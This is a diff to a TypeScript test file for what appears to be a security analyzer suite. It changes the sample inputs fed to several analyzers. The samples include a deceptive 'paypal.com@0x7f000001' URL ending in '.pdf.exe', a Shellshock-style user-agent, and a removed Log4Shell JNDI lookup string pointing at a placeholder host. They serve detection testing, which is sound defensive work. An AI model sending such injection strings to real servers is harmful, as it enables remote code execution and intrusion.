@@ -10,6 +10,7 @@ import { startHttpStub } from './kit/http-stub.ts'
 import { catalogueIds, type Finding, finding, type Output, type Runnable } from './kit/index.ts'
 import { runAnalyzer, type Trial } from './kit/try.ts'
 import { qrPicture, toPng } from './qr/image-samples.ts'
+import { starterSamples } from './yara/starter-samples.ts'
 
 /** Something that the analyzer has a word to say about. */
 type Occasion = (runnable: Runnable) => Promise<Output>
@@ -116,8 +117,8 @@ const occasions: Readonly<Record<string, Occasion>> = {
       },
     ),
   Assay_Url: value('url', 'http://paypal.com@0x7f000001:443/a.pdf.exe'),
-  Assay_UserAgent: value('user-agent', 'sqlmap/1.0 ${jndi:ldap://x.example/a}'),
-  Assay_Yara: gallery(/\.ps1$/),
+  Assay_UserAgent: value('user-agent', 'sqlmap/1.0 () { :;}; echo'),
+  Assay_Yara: file('x', Object.values(starterSamples)[0]?.[0] ?? ''),
 }
 
 /** A program that runs and has no table of sections. */
@@ -154,8 +155,8 @@ it.each(analyzers.map((builtin) => [builtin.description.name, builtin] as const)
     expect(told?.length).toBeGreaterThan(0)
     for (const one of told ?? []) {
       expect(catalogueIds).toContain(one.id)
-      // Written by `finding` and by nothing else: the same evidence says the same again.
-      expect(one).toEqual(finding(one.id, one.parameters))
+      // Written by `finding` and by nothing else: the same evidence says the same again. Rules bring a technique.
+      expect(one).toMatchObject(finding(one.id, one.parameters))
       expect(one.explanation).not.toMatch(/\{\w+\}|undefined|NaN/)
     }
     const reasons = new Set(told?.map(({ predicate, value: said }) => `${predicate} ${said}`))
